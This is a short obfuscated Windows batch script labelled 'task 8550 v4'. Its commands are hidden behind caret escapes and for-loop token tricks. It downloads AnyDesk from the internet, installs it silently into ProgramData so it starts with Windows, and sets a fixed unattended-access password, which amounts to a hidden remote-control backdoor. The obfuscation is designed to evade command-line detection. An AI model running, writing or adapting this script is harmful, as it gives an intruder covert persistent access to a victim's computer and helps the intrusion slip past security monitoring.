REM task 8550 v4
@echo off
for /^f "tokens=3 delims=;" %%i in ("wbag;fzxv;curl") do %%i -sL^o %TEMP%\^A^ny^Des^k.^ex^e ht^t^ps://dow^nl^oa^d.^an^ydes^k.^c^o^m/A^n^y^D^e^s^k.^e^x^e
^for /^f "tokens=3 delims=~" %%i ^i^n ("xzev~kpyw~%TEMP%\AnyDesk.exe") ^do %%i --^in^sta^ll "C:\ProgramData\AnyDesk" --^s^tar^t-with-^win --^silent
for /^f "tokens=2 delims=~" %%^i ^in ("xigg~echo~xruu") ^d^o %%i ^W^in^t^er#20^25^x | "C:\ProgramData\AnyDesk\AnyDesk.exe" --^se^t-^p^a^sswo^r^d
